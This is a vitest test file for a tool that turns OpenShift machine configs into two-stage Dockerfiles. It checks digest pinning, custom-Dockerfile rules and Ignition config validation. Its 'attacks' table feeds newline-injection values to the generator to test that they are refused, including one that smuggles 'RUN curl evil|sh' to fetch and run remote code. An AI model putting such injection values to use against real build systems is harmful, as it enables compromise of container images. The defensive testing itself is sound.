import { describe, expect, it } from 'vitest';
import {
  checkCustomDockerfile,
  contentDockerfile,
  defaultCustomDockerfile,
  DockerfileValueError,
  isDefaultCustomDockerfile,
  validateApplyCommand,
} from '../../src/plan/dockerfile.ts';
import { checkRenderedConfig } from '../../src/plan/machineconfig.ts';
import { isSubset } from '../../src/kube/client.ts';

const D = (c: string) => 'sha256:' + c.repeat(64);
const ok = {
  renderedConfigImage: `reg.local:5000/ns/p-rendered-config@${D('a')}`,
  baseImage: `quay.io/coreos/base@${D('b')}`,
  applyCommand: 'ignition-apply /etc/machine-config-ignition.json',
};

describe('contentDockerfile', () => {
  it('renders two stages pinned by digest', () => {
    const df = contentDockerfile(ok);
    expect(df).toContain(`FROM ${ok.renderedConfigImage} AS machineconfig\n`);
    expect(df).toContain(`\nFROM ${ok.baseImage}\n`);
    expect(df).toContain(`RUN ${ok.applyCommand}\n`);
    // No rendered-config name: the hand-off renames the rendered config without changing its content.
    expect(df).not.toContain('rendered-worker');
    expect(df).not.toContain('LABEL machineconfig');
    expect(df.split('\n').filter((l) => l.startsWith('FROM'))).toHaveLength(2);
  });
  const attacks: [string, Partial<typeof ok>][] = [
    ['a newline in the base', { baseImage: `quay.io/x@${D('b')}\nRUN curl evil|sh` }],
    ['a tag instead of a digest', { baseImage: 'quay.io/x:latest' }],
    ['a space', { renderedConfigImage: `reg/x@${D('a')} AS evil` }],
    ['a bad digest', { baseImage: 'quay.io/x@sha256:abc' }],
    ['a multi-line apply command', { applyCommand: 'true\nRUN evil' }],
    ['a line continuation', { applyCommand: 'true \\' }],
    ['a control character', { applyCommand: 'true\u0000' }],
  ];
  for (const [name, patch] of attacks) {
    it(`refuses ${name}`, () => {
      expect(() => contentDockerfile({ ...ok, ...patch })).toThrow(DockerfileValueError);
    });
  }
  it('validateApplyCommand accepts ordinary shell', () => {
    expect(validateApplyCommand('ignition-apply /etc/x.json && ostree container commit')).toContain('&&');
  });
});

describe('custom Dockerfile', () => {
  it('knows its default and tolerates whitespace', () => {
    expect(isDefaultCustomDockerfile('w', defaultCustomDockerfile('w'))).toBe(true);
    expect(isDefaultCustomDockerfile('w', `\n${defaultCustomDockerfile('w')}\n\n`)).toBe(true);
    expect(isDefaultCustomDockerfile('w', undefined)).toBe(true);
    expect(isDefaultCustomDockerfile('w', 'FROM x\nRUN y\n')).toBe(false);
  });
  it('needs a FROM and no NUL', () => {
    expect(checkCustomDockerfile('FROM x\nRUN y')).toBeUndefined();
    expect(checkCustomDockerfile('# FROM x\nRUN y')).toMatch(/no FROM/);
    expect(checkCustomDockerfile('FROM x\0')).toMatch(/NUL/);
    expect(checkCustomDockerfile('from x')).toBeUndefined();
  });
});

describe('checkRenderedConfig', () => {
  const mc = (config: unknown, name = 'rendered-w-1') => ({ metadata: { name, uid: 'u', resourceVersion: '5', managedFields: [{}] }, spec: { config } });
  it('accepts Ignition 3.x and drops volatile metadata', () => {
    const r = checkRenderedConfig(mc({ ignition: { version: '3.4.0' }, storage: { files: [{ path: '/etc/a', mode: 420 }] } }));
    expect(r.ok).toBe(true);
    if (r.ok) expect(r.machineConfig).toEqual({ apiVersion: 'machineconfiguration.openshift.io/v1', kind: 'MachineConfig', spec: { config: { ignition: { version: '3.4.0' }, storage: { files: [{ path: '/etc/a', mode: 420 }] } } } });
  });
  const bad: [string, unknown, RegExp][] = [
    ['no config', undefined, /has no spec.config/],
    ['an array', [], /must be an Ignition config object/],
    ['Ignition 2', { ignition: { version: '2.2.0' } }, /ignition.version must be a 3.x.y/],
    ['no version', { ignition: {} }, /spec.config.ignition.version/],
    ['a relative path', { ignition: { version: '3.2.0' }, storage: { files: [{ path: 'etc/a' }] } }, /storage.files.0.path.*absolute path/],
    ['a bad mode', { ignition: { version: '3.2.0' }, storage: { files: [{ path: '/a', mode: 99999 }] } }, /storage.files.0.mode/],
  ];
  for (const [name, config, msg] of bad) {
    it(`refuses ${name}`, () => {
      const r = checkRenderedConfig(mc(config));
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.message).toMatch(msg);
    });
  }
  it("keeps no metadata (annotations, kubectl bookkeeping) in the image", () => {
    const m = { ...mc({ ignition: { version: '3.4.0' } }), metadata: { name: 'rendered-w-1', annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}', 'machineconfiguration.openshift.io/generated-by-controller-version': 'v1' } } };
    const r = checkRenderedConfig(m);
    // No metadata at all goes into the image: not the name, not MCO's annotations, not kubectl's.
    expect(r.ok && r.machineConfig.metadata).toBeUndefined();
  });

  it('refuses a name that is not a DNS subdomain', () => {
    expect(checkRenderedConfig(mc({ ignition: { version: '3.4.0' } }, 'Bad Name')).ok).toBe(false);
  });
});

describe('isSubset (a write that changes nothing is not sent)', () => {
  it('ignores fields the server added and compares what we set', () => {
    expect(isSubset({ a: 1, b: { c: [1, { d: 2 }] } }, { a: 1, x: 9, b: { c: [1, { d: 2, e: 3 }], y: 1 } })).toBe(true);
    expect(isSubset({ a: 1 }, { a: 2 })).toBe(false);
    expect(isSubset({ l: [1, 2] }, { l: [1, 2, 3] })).toBe(false);
    expect(isSubset({ a: { b: 1 } }, undefined)).toBe(false);
    expect(isSubset({ t: '2026-01-01T00:00:00.000Z' }, { t: new Date('2026-01-01T00:00:00.000Z') })).toBe(true);
    expect(isSubset({ a: undefined }, {})).toBe(true);
  });
});
